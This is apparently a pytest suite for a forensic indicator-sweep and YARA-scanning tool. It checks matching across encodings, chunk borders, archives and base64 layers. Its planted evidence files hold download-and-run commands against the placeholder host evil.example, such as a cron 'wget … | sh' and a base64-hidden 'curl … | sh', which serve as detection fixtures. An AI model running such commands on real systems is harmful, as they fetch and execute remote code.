"""The raw sweep: what is in the bytes of members, parsed or not, in any encoding and at any border; and what was searched."""

from __future__ import annotations

import base64
import io
import shutil
import subprocess
import sys
import textwrap
import zipfile

import pytest

import commodore.artefacts
from commodore import catalogue, grep
from commodore.case.reader import CaseReader
from commodore.engine import plan
from commodore.engine.process import process
from commodore.sweep.finder import Finder
from scout.console import Complaint
from scout.formats.indicators import read_lines
from scout.formats.yara_rules import EXTERNALS, RuleText, YaraRules, rule_texts
from tests.commodore.cases import ledger, records
from tests.conftest import need

LIST = r"""
10.1.2.3
192.168.7.0/24
2001:db8::5
evil.example
t.co
update.bin
C:\Users\Public\evil.exe
/tmp/.cache/helper
/opt/café/run
d41d8cd98f00b204e9800998ecf8427e
http://bad.example/x/y?z=1
"""
THERE = {
    "10.1.2.3": "10.1.2.3",
    "192.168.7.200": "192.168.7.0/24",
    "2001:DB8:0:0::5": "2001:db8::5",
    "2001:DB8::5": "2001:db8::5",
    "Evil.Example": "evil.example",
    "cdn.evil.example": "evil.example",
    "https://t.co/": "t.co",
    "UPDATE.BIN": "update.bin",
    r"c:\users\PUBLIC\evil.exe": r"c:\users\public\evil.exe",
    r'"C:\\Users\\Public\\evil.exe"': r"c:\users\public\evil.exe",
    "C:/Users/Public/evil.exe": r"c:\users\public\evil.exe",
    r"\Device\HarddiskVolume3\Users\Public\evil.exe": r"c:\users\public\evil.exe",
    "/tmp/.cache/helper": "/tmp/.cache/helper",
    "/opt/café/run": "/opt/café/run",
    "D41D8CD98F00B204E9800998ECF8427E": "d41d8cd98f00b204e9800998ecf8427e",
    "http://bad.example/x/y?z=1": "bad.example/x/y?z=1",
}
"""text in the evidence → the indicator that is in it"""
NOT_THERE = (
    "10.1.2.33", "110.1.2.3", "1.10.1.2.3", "10.1.2.3.4", "192.168.70.1", "evil.example.com", "notevil.example", "at.co", "xupdate.bin",
    "/tmp/.cache/helpers", "d41d8cd98f00b204e9800998ecf8427e0", "2001:db8::51",
)  # fmt: skip


@pytest.fixture(scope="module")
def finder():
    indicators, refused = read_lines(LIST.splitlines(), "list")
    assert not refused
    made = Finder(sorted(indicators))
    made.values = [x.value for x in sorted(indicators)]
    return made


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("shift", range(3))
def test_each_indicator_is_found_in_each_encoding_and_what_only_resembles_it_is_not(finder, encoding, shift):
    for text, value in THERE.items():
        if encoding == "utf-16-be" and not text.isascii():
            continue
        unit = b"\xff" * shift + f" {text} ".encode(encoding)
        found, more = finder.find(unit)
        assert [finder.values[x.number] for x in found] == [value], text
        assert not more
        for one in found:
            said = unit[one.start : one.end]
            assert (said.decode("utf-16-le" if one.wide else "utf-8")) == one.text
    for text in NOT_THERE:
        assert not finder.find(b"\xff" * shift + f" {text} ".encode(encoding))[0], text


def test_a_place_on_a_border_is_found_once_wherever_the_border_is(finder):
    text = b"x 10.1.2.3 y evil.example z " + r"C:\Users\Public\evil.exe ".encode("utf-16-le") + b" d41d8cd98f00b204e9800998ecf8427e end"
    whole = [(x.start, finder.values[x.number]) for x in finder.find(text)[0]]
    assert len(whole) == 4
    for cut in range(1, len(text)):
        first, _ = finder.find(text[:cut], b"", text[cut:])
        second, _ = finder.find(text[cut:], text[:cut])
        assert (
            sorted([(x.start, finder.values[x.number]) for x in first] + [(x.start + cut, finder.values[x.number]) for x in second])
            == whole
        )


def test_of_many_places_the_first_are_listed_and_the_others_counted(finder):
    found, more = finder.find(b"evil.example\n" * 1000)
    assert len(found) == 100
    assert sum(more.values()) == 900


def host(tmp_path, **files: bytes):
    root = tmp_path / "host"
    for path, content in {"etc/hostname": b"web1\n", **files}.items():
        target = root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content)
    listed = tmp_path / "ioc.txt"
    listed.write_text(LIST)
    return root, listed


def test_lines_of_files_that_nothing_parses_are_found_and_the_ledger_has_every_member(tmp_path):
    files = {
        "root/.bash_history": b"ls\ncurl http://evil.example/x\n",
        "var/log/nginx/access.log": b'1.1.1.1 - "GET /"\n10.1.2.3 - "GET /a"\n',
        "etc/cron.daily/upd": b"#!/bin/sh\nwget -q cdn.evil.example/y | sh\n",
        "var/log/auth.log": b"Nov  1 10:00:00 web1 sshd[10]: Failed password for root from 10.1.2.3 port 22 ssh2\n",
    }
    root, listed = host(tmp_path, **files)
    summary = process([root], tmp_path / "case", iocs=[listed], workers=1)
    swept = {r["file.path"]: r for r in records(tmp_path / "case", "sweep")}
    lines = {path: (r["escadre.line_number"], r["escadre.line"]) for path, r in swept.items()}
    assert lines == {
        "/root/.bash_history": (2, "curl http://evil.example/x"),
        "/var/log/nginx/access.log": (2, '10.1.2.3 - "GET /a"'),
        "/etc/cron.daily/upd": (2, "wget -q cdn.evil.example/y | sh"),
        "/var/log/auth.log": (1, files["var/log/auth.log"].decode().strip()),
    }
    for path, record in swept.items():
        at, text = record["escadre.sweep.offset"], record["escadre.sweep.text"].encode()
        assert files[path[1:]][at : at + len(text)] == text
    (parsed,) = records(tmp_path / "case", "auth_log")
    assert swept["/var/log/auth.log"]["escadre.records_used"] == [parsed["escadre.id"]]
    rows = [row for row in ledger(tmp_path / "case") if row["artefact"] == "indicators"]
    assert {row["path"]: row["searched"] for row in rows} == {f"/{path}": len(content) for path, content in files.items()} | {
        "/etc/hostname": 5
    }
    assert summary.hosts[0]["searched"]["indicators"] == {"members": 5, "bytes": sum(map(len, files.values())) + 5, "not": 0, "places": 4}
    cited = {f["rule.id"]: f for f in CaseReader(tmp_path / "case").findings() if f["rule.category"] == "ioc"}
    assert parsed["escadre.id"] in cited["ip:10.1.2.3"]["escadre.records"]
    assert cited["ip:10.1.2.3"]["count"] == 2, "the line of auth.log counts once, though it is parsed and swept"


def test_nothing_is_searched_and_no_task_is_made_where_nothing_was_asked_for(tmp_path):
    root, _ = host(tmp_path, **{"root/.bash_history": b"curl http://evil.example/x\n"})
    summary = process([root], tmp_path / "case", workers=1)
    assert summary.hosts[0]["searched"] == {}
    assert not records(tmp_path / "case", "sweep")
    assert not [row for row in ledger(tmp_path / "case") if row["artefact"] == "indicators"]


def test_a_large_member_that_nothing_reads_is_cut_and_its_lines_are_counted(tmp_path, monkeypatch):
    monkeypatch.setattr(plan, "SEARCHED", plan.Cut(0, 4096))
    line = b"x" * 99 + b"\n"
    content = line * 40 + b"y" * 90 + b" evil.example " + b"\n" + line * 40
    root, listed = host(tmp_path, **{"srv/big.bin": content})
    process([root], tmp_path / "case", iocs=[listed], workers=2)
    (found,) = records(tmp_path / "case", "sweep")
    assert (found["escadre.sweep.offset"], found["escadre.line_number"]) == (content.index(b"evil"), 41)
    (row,) = [row for row in ledger(tmp_path / "case") if row["artefact"] == "indicators" and row["path"] == "/srv/big.bin"]
    assert row["searched"] == len(content)


PLANTED = """
from __future__ import annotations
import base64
from commodore.artefact import Artefact, SweepLayer, Record

ARTEFACT = Artefact(
    name="wrapped", title="t", about="a", match=("srv/*.b64",), fields=("file.name",),
    action="x", message="{file.name}.", sources=("a test",),
)

def parse(evidence, host):
    yield Record("0", {"file.name": evidence.name})
    yield SweepLayer("base64", base64.b64decode(evidence.data), "0")
"""


def test_a_layer_that_an_artefact_decodes_is_searched_and_cites_its_record(tmp_path, monkeypatch):
    if sys.platform != "linux":
        pytest.skip("planted modules reach only forked workers")
    folder = tmp_path / "planted"
    folder.mkdir()
    (folder / "wrapped.py").write_text(textwrap.dedent(PLANTED))
    monkeypatch.setattr(commodore.artefacts, "__path__", [*commodore.artefacts.__path__, str(folder)])
    made = (catalogue.artefacts, catalogue.matcher, catalogue.containers)
    for one in made:
        one.cache_clear()
    try:
        root, listed = host(tmp_path, **{"srv/a.b64": base64.b64encode("iex evil.example".encode("utf-16-le"))})
        process([root], tmp_path / "case", iocs=[listed], workers=1)
    finally:
        sys.modules.pop("commodore.artefacts.wrapped", None)
        for one in made:
            one.cache_clear()
    (found,) = records(tmp_path / "case", "sweep")
    (parsed,) = records(tmp_path / "case", "wrapped")
    assert (found["escadre.sweep.layer"], found["escadre.sweep.encoding"]) == ("base64", "utf-16")
    assert found["escadre.records_used"] == [parsed["escadre.id"]]
    assert found["message"] == "Domain evil.example is in /srv/a.b64, offset 8, in base64."


RULES = """
rule Marked { meta: author = "A" score = 80 reference = "https://r.example" license = "MIT"
  strings: $a = "marked-7731" wide ascii condition: $a }
rule By_Name { condition: filename == ".bash_history" and extension == ".bash_history" and filepath == "/root" }
rule Broken { condition: nowhere }
rule Needs_Broken { condition: Broken }
"""


def test_yara_rules_match_files_and_values_of_records_and_what_does_not_compile_is_named(tmp_path):
    root, _ = host(
        tmp_path, **{"root/.bash_history": b"ls\n", "srv/a.php": b"<? marked-7731", "srv/b": "x marked-7731".encode("utf-16-le")}
    )
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "own.yar").write_text(RULES)
    summary = process([root], tmp_path / "case", rules=[rules], workers=1, cache=tmp_path / "cache")
    assert summary.rules["yara"] == 2
    assert [(r["file"], r["line"], r["reason"]) for r in summary.rules["refused"]] == [
        ("own.yar", 5, 'rule Broken: undefined identifier "nowhere"'),
        ("own.yar", 6, 'rule Needs_Broken: undefined identifier "Broken"'),
    ]
    swept = {(r["file.path"], r["rule.name"]): r for r in records(tmp_path / "case", "sweep")}
    assert set(swept) == {("/srv/a.php", "Marked"), ("/srv/b", "Marked"), ("/root/.bash_history", "By_Name")}
    marked = swept["/srv/a.php", "Marked"]
    assert (marked["rule.author"], marked["rule.reference"], marked["rule.license"]) == (["A"], "https://r.example", "MIT")
    assert marked["escadre.sweep.strings"] == ["$a at 3: marked-7731"]
    (found,) = [f for f in CaseReader(tmp_path / "case").findings() if f["rule.name"] == "Marked"]
    assert (found["rule.category"], found["escadre.severity"], found["count"]) == ("yara", "high", 2)
    assert summary.hosts[0]["searched"]["yara"]["members"] == 4


def test_compiled_rules_come_from_the_cache_and_a_changed_cache_is_not_read(tmp_path):
    texts = [RuleText("own.yar", RULES.encode())]
    first = YaraRules(texts, tmp_path)
    (kept,) = tmp_path.glob("*.yara")
    again = YaraRules(texts, tmp_path)
    assert (again.count, again.refused) == (first.count, first.refused)
    kept.write_bytes(b"somebody else's")
    assert YaraRules(texts, tmp_path).count == first.count


def test_a_rule_that_takes_too_long_is_named_and_the_others_are_applied(tmp_path):
    slow = 'rule Slow { condition: for all i in (1..9999999999) : (i != 0 and filename == "y") }'
    rules = YaraRules([RuleText("slow.yar", slow.encode()), RuleText("own.yar", RULES.encode())])
    given_up: list[str] = []
    found = [m.name for m in rules.match(b"<? marked-7731 " + b"ac" * 1000, {"filename": "y"}, 1, given_up)]
    assert found == ["Marked"]
    assert given_up == ["slow.yar:Slow: it takes more than 1 s"]


HOSTILE_RULES = """import "cuckoo"
import "nosuchmodule"
rule Needs_It { condition: cuckoo.network.http_request(/x/) }
rule Everything { condition: true }
rule Every_Byte { strings: $a = { ?? ?? } condition: $a }
"""


def test_rules_that_match_everything_or_need_what_is_not_there(tmp_path):
    """A module that this YARA has not is named, with the rules that need it; a match of each byte gives ten strings of a member."""
    rules = YaraRules([RuleText("hostile.yar", HOSTILE_RULES.encode())])
    refused = [(one.line, one.reason) for one in rules.refused]
    assert (2, 'unknown module "nosuchmodule"') in refused
    assert [line for line, _ in refused if line == 3], refused
    given_up: list[str] = []
    found = {one.name: one for one in rules.match(bytes(1 << 20), {}, 20, given_up)}
    assert set(found) == {"Everything", "Every_Byte"}
    assert len(found["Every_Byte"].strings) == 10
    assert given_up == ["hostile.yar:Every_Byte: $a occurs too often, only the first places were counted"]


@pytest.mark.corpus
def test_signature_base_matches_what_the_program_yara_matches(tmp_path, corpus):
    program = shutil.which("yara")
    need(program is not None, "the program yara (apt install yara)")
    source = corpus / "detection" / "Neo23x0+signature-base"
    files = [p for kind in ("pe-benign", "linux", "misc-windows") for p in sorted((corpus / kind).rglob("*")) if p.is_file()][:60]
    need(bool(files), "the evidence corpus")
    texts = rule_texts([source])
    rules = YaraRules(texts, tmp_path)
    assert not rules.refused
    listed = tmp_path / "files"
    listed.write_text("".join(f"{file}\n" for file in files))
    variables = [part for name in EXTERNALS for part in ("-d", f"{name}=")]
    spaces = [f"n{n}:{source / text.name}" for n, text in enumerate(texts)]  # a name may occur in several files
    done = subprocess.run([program, "-w", *variables, *spaces, "--scan-list", str(listed)], capture_output=True, text=True, timeout=200)
    assert done.returncode == 0, done.stderr
    theirs = {tuple(line.split(" ", 1)) for line in done.stdout.splitlines()}
    assert theirs
    assert {(m.name, str(file)) for file in files for m in rules.match(file, {}, 60, [])} == theirs


def test_small_members_are_searched_together_with_the_same_result(finder):
    units = [f"{text} {n}".encode("utf-16-le" if n % 3 else "utf-8") for n, text in enumerate((*THERE, *NOT_THERE, ""))]
    assert finder.find_each(units) == [finder.find(unit) for unit in units]


def test_grep_finds_places_in_archives_and_directories_and_writes_nothing(tmp_path):
    files = {
        "root/.bash_history": b"ls\ncurl http://Evil.example/x\n",
        "srv/u": "run evil.example now".encode("utf-16-be"),
        "srv/big": b"z" * (1 << 21),
    }
    root, _ = host(tmp_path, **files)
    before = sorted(p for p in tmp_path.rglob("*"))
    account = grep.GrepAccount()
    found = list(grep.search([root], (), grep.compiled("evil.example", literal=True, fold=True), account))
    assert [(p.path, p.line, p.text, p.utf16) for p in found] == [
        ("/root/.bash_history", 2, "curl http://Evil.example/x", False),
        ("/srv/u", 0, "run evil.example now", True),
    ]
    assert (account.members, account.size) == (4, sum(map(len, files.values())) + 5)
    assert sorted(p for p in tmp_path.rglob("*")) == before
    for pattern in ("", "(", "x*"):
        with pytest.raises(Complaint):
            grep.compiled(pattern, literal=False, fold=False)


def test_grep_looks_into_what_is_decoded(tmp_path):
    """A script whose address is in base64, alone and in an archive. The line has the layer, and the place in it."""
    script = b"#!/bin/sh\necho " + base64.b64encode(b"curl http://evil.example/x | sh # inert") + b" | base64 -d | sh\n"
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("in/run.sh", script)
    root, _ = host(tmp_path, **{"srv/run.sh": script, "srv/a.zip": packed.getvalue()})
    account = grep.GrepAccount()
    found = list(grep.search([root], [], grep.compiled("evil.example", literal=True, fold=False), account))
    assert [(place.path, place.layer, place.offset) for place in found if place.path.startswith("/srv")] == [
        ("/srv/a.zip", "in/run.sh > base64", 12),
        ("/srv/run.sh", "base64", 12),
    ]
    assert account.left == []


def test_grep_finds_a_place_on_a_border_of_two_pieces_once(tmp_path, monkeypatch):
    monkeypatch.setattr(grep, "WINDOW", 64)
    monkeypatch.setattr(grep, "LONGEST", 32)
    for at in range(40, 140):
        root = tmp_path / str(at)
        (root / "etc").mkdir(parents=True)
        (root / "etc" / "x").write_bytes(b"\n" * at + b"evil.example" + b"\n" * 200)
        (found,) = grep.search([root], (), grep.compiled("evil.example", literal=True, fold=False), grep.GrepAccount())
        assert (found.offset, found.line) == (at, at + 1)
